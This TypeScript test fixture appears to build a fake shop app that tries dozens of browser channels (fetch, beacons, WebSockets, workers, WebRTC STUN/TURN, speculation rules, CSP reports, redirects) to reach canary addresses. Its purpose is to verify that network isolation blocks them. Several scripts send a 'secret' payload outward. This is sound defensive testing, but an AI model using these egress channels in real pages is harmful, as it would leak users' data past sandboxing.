import { CANARY_ADDRESSES } from './canary.ts';

/**
 * Scripts of a hostile page, one per way out of the browser. Each is the body of an async function with `http`, `ws` and
 * `host`, the canary for this way: `http://address:port/`, `ws://address:port/` and `address:port`.
 */
const SCRIPTS = {
  fetch: `await fetch(http, { mode: 'no-cors' })`,
  xhr: `const request = new XMLHttpRequest(); request.open('POST', http); request.send('secret')`,
  'keepalive fetch': `await fetch(http, { mode: 'no-cors', method: 'POST', body: 'secret', keepalive: true })`,
  beacon: `navigator.sendBeacon(http, 'secret')`,
  'deferred fetch': `fetchLater(http, { method: 'POST', body: 'secret', activateAfter: 0 })`,
  'event source': `new EventSource(http)`,
  image: `add('img', { src: http, alt: '' })`,
  script: `add('script', { src: http })`,
  'module import': `await import(http)`,
  'style sheet': `add('link', { rel: 'stylesheet', href: http })`,
  font: `await new FontFace('leak', 'url(' + http + ')').load()`,
  media: `add('video', { src: http, preload: 'auto' })`,
  object: `add('object', { data: http })`,
  frame: `add('iframe', { src: http, title: 'x' })`,
  'refreshing frame': `add('iframe', { title: 'x', srcdoc: '<meta http-equiv=refresh content="0;url=' + http + '">' })`,
  'srcdoc fetch': `add('iframe', { title: 'x', srcdoc: '<script>fetch("' + http + '", { mode: "no-cors" })</' + 'script>' })`,
  'srcdoc socket': `add('iframe', { title: 'x', srcdoc: '<script>new WebSocket("' + ws + '")</' + 'script>' })`,
  'sandboxed frame': `add('iframe', { title: 'x', sandbox: 'allow-scripts', src: 'data:text/html,<script>new WebSocket("' + ws + '");fetch("' + http + '", { mode: "no-cors" })</' + 'script>' })`,
  socket: `new WebSocket(ws)`,
  worker: `new Worker(script('fetch("' + http + '", { mode: "no-cors" })'))`,
  'worker socket': `new Worker(script('new WebSocket("' + ws + '")'))`,
  'nested worker': `new Worker(script('new Worker(URL.createObjectURL(new Blob([\\'fetch("' + http + '", { mode: "no-cors" })\\'])))'))`,
  'shared worker': `new SharedWorker(script('fetch("' + http + '", { mode: "no-cors" })'))`,
  'shared worker socket': `new SharedWorker(script('new WebSocket("' + ws + '")'))`,
  'service worker': `await navigator.serviceWorker.register('/hostile-worker.js?http=' + encodeURIComponent(http), { scope: '/fetch-' + host.length + host.at(8) + '/' })`,
  'service worker socket': `await navigator.serviceWorker.register('/hostile-worker.js?ws=' + encodeURIComponent(ws), { scope: '/socket-' + host.length + host.at(8) + '/' })`,
  worklet: `await CSS.paintWorklet.addModule(http)`,
  prefetch: `add('link', { rel: 'prefetch', href: http })`,
  preload: `add('link', { rel: 'preload', as: 'script', href: http })`,
  'module preload': `add('link', { rel: 'modulepreload', href: http })`,
  preconnect: `add('link', { rel: 'preconnect', href: http })`,
  'dns prefetch': `add('link', { rel: 'dns-prefetch', href: http })`,
  prerender: `add('link', { rel: 'prerender', href: http })`,
  manifest: `add('link', { rel: 'manifest', href: http })`,
  icon: `add('link', { rel: 'icon', href: http })`,
  'speculative prefetch': `add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [http], eagerness: 'immediate' }] }) })`,
  'speculative prerender': `add('script', { type: 'speculationrules', textContent: JSON.stringify({ prerender: [{ source: 'list', urls: [http], eagerness: 'immediate' }] }) })`,
  popup: `open(http)`,
  'popup script': `const popup = open('about:blank'); popup.eval('fetch("' + http + '", { mode: "no-cors" }); new WebSocket("' + ws + '")')`,
  'form in a new window': `add('form', { action: http, method: 'post', target: '_blank' }).submit()`,
  download: `add('iframe', { name: 'download-' + host, title: 'x' }); add('a', { href: http, download: 'x', target: 'download-' + host, textContent: 'x' }).click()`,
  ping: `add('a', { href: '#x', ping: http, textContent: 'x' }).click()`,
  attribution: `add('img', { alt: '', attributionSrc: http, src: 'data:,' })`,
  stun: `await gather({ urls: 'stun:' + host })`,
  'turn over udp': `await gather({ urls: 'turn:' + host + '?transport=udp', username: 'u', credential: 'c' })`,
  'turn over tcp': `await gather({ urls: 'turn:' + host + '?transport=tcp', username: 'u', credential: 'c' })`,
  'turn over tls': `await gather({ urls: 'turns:' + host + '?transport=tcp', username: 'u', credential: 'c' })`,
  'ice over udp': `await connectPeer('1 1 udp 2130706431 ' + host.replace(':', ' ') + ' typ host')`,
  'ice over tcp': `await connectPeer('1 1 tcp 1518280447 ' + host.replace(':', ' ') + ' typ host tcptype passive')`,
  'web transport': `await new WebTransport('https://' + host + '/', { serverCertificateHashes: [{ algorithm: 'sha-256', value: new Uint8Array(32) }] }).ready`,
  https: `await fetch('https://' + host + '/', { mode: 'no-cors' })`,
  'secure socket': `new WebSocket('wss://' + host + '/')`,
  'payment manifest': `await new PaymentRequest([{ supportedMethods: 'https://' + host + '/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()`,
  presentation: `await new PresentationRequest([http]).getAvailability()`,
} as const;

/** Ways that need a page of their own. */
const PAGES = ['navigation', 'base address', 'refresh'] as const;
/** Ways that need a server of the app that takes part. */
const SERVER_WAYS = ['redirect', 'security report', 'link header'] as const;

export const WAYS_OUT: readonly string[] = [...Object.keys(SCRIPTS), ...PAGES, ...SERVER_WAYS];

const HELPERS = `
const add = (name, attributes) => {
  const element = document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) {
    if (key === 'textContent') element.textContent = value;
    else element.setAttribute(key, value);
  }
  return document.body.appendChild(element);
};
const script = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
const gather = async (server) => {
  const peer = new RTCPeerConnection({ iceServers: [server], iceCandidatePoolSize: 1 });
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());
};
const connectPeer = async (candidate) => {
  const [near, far] = [new RTCPeerConnection(), new RTCPeerConnection()];
  near.createDataChannel('x');
  await near.setLocalDescription(await near.createOffer());
  await far.setRemoteDescription(near.localDescription);
  await far.setLocalDescription(await far.createAnswer());
  await near.setRemoteDescription(far.localDescription);
  await near.addIceCandidate({ candidate: 'candidate:' + candidate, sdpMid: '0', sdpMLineIndex: 0 });
};
`;

/** Uses of the own origin that must work; a failure is logged as an error, which is a finding. */
const OWN_USES = `
const works = async (what, use) => {
  try { await use(); await fetch(location.origin + '/own/' + what, { mode: 'no-cors' }); }
  catch (error) { console.error('OWN ORIGIN FAILED: ' + what + ': ' + error); }
};
const answered = (worker) => new Promise((resolve, reject) => {
  worker.onmessage = ({ data }) => data === 'ok' ? resolve() : reject(data);
  worker.onerror = () => reject('error');
});
const asking = 'fetch(new URL("/own.json", ORIGIN)).then((r) => r.json()).then(() => "ok", String)';
const inWorker = asking.replace('ORIGIN', JSON.stringify(location.origin));
works('fetch', async () => (await fetch('/own.json')).json());
works('worker', () => answered(new Worker(URL.createObjectURL(new Blob([inWorker + '.then(postMessage)'])))));
works('service-worker', async () => {
  await navigator.serviceWorker.register('/own-worker.js', { scope: '/own/' });
});
if (SOCKET) works('socket', () => new Promise((resolve, reject) => {
  const socket = new WebSocket('ws://' + location.host + '/own-socket');
  socket.onmessage = resolve;
  socket.onerror = reject;
}));
`;

/** More files than an abort signal may have listeners without a warning. */
const OWN_ASSETS = Array.from({ length: 40 }, (_, at) => `asset-${at}.js`);

const page = (head: string, body: string): string =>
  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Shop</title>${head}</head><body><main><h1>Goods</h1>${body}</main></body></html>`;

export interface HostileApp {
  /** Files of the build; every page is also the page of a route. */
  readonly files: Readonly<Record<string, string>>;
  /** Headers of every page, if a server of its own delivers them. */
  readonly headers: Readonly<Record<string, string>>;
  /** Targets of redirects by path. */
  readonly redirects: Readonly<Record<string, string>>;
}

/** Builds an app that tries every way out to these ports, and uses its own origin. */
export function buildHostileApp(ports: Readonly<Record<string, number>>, hasServer: boolean): HostileApp {
  const hostOf = (way: string, address: string = CANARY_ADDRESSES[1]): string => `${address}:${ports[way]}`;
  const attempts = Object.entries(SCRIPTS).flatMap(([way, text]) =>
    CANARY_ADDRESSES.map(
      (address) =>
        `(async (host, http, ws) => { ${text} })('${hostOf(way, address)}', 'http://${hostOf(way, address)}/', 'ws://${hostOf(way, address)}/').catch(() => {});`,
    ),
  );
  const redirects = CANARY_ADDRESSES.map((address, index): [string, string] => [
    `/redirect-${index}`,
    `http://${hostOf('redirect', address)}/`,
  ]);
  const server = hasServer
    ? redirects.map(([path]) => `fetch('${path}', { mode: 'no-cors' }).catch(() => {});`)
    : [];
  return {
    files: {
      // The script runs before the base address applies to it.
      'index.html': page(
        OWN_ASSETS.map((name) => `<script src="/${name}" async></script>`).join(''),
        `<p>Everything.</p><script src="/app.js"></script><base href="http://${hostOf('base address')}/">`,
      ),
      'app.js': `const SOCKET = ${hasServer};\n${OWN_USES}\n${HELPERS}\n${attempts.join('\n')}\n${server.join('\n')}\n`,
      'hostile-worker.js': `const given = new URL(location).searchParams;
oninstall = (event) => event.waitUntil((async () => {
  try { if (given.has('http')) await fetch(given.get('http'), { mode: 'no-cors' }); } catch {}
  try { if (given.has('ws')) new WebSocket(given.get('ws')); } catch {}
})());`,
      'own-worker.js': `oninstall = (event) => event.waitUntil(fetch('/own.json').then((r) => r.json()));`,
      'own.json': '{}',
      ...Object.fromEntries(OWN_ASSETS.map((name) => [name, ';'])),
      'cart.html': page(
        '',
        `<p>Leaving.</p><script>location.href = 'http://${hostOf('navigation')}/'</script>`,
      ),
      'account.html': page(
        `<meta http-equiv="refresh" content="1;url=http://${hostOf('refresh')}/">`,
        `<p>Account.</p>`,
      ),
    },
    headers: {
      'content-security-policy': `img-src 'self' data:; report-uri http://${hostOf('security report')}/; report-to out`,
      'reporting-endpoints': `out="http://${hostOf('security report')}/"`,
      link: `<http://${hostOf('link header')}/>; rel=preload; as=script, <http://${hostOf('link header', CANARY_ADDRESSES[0])}/>; rel=preconnect`,
    },
    redirects: Object.fromEntries(redirects),
  };
}
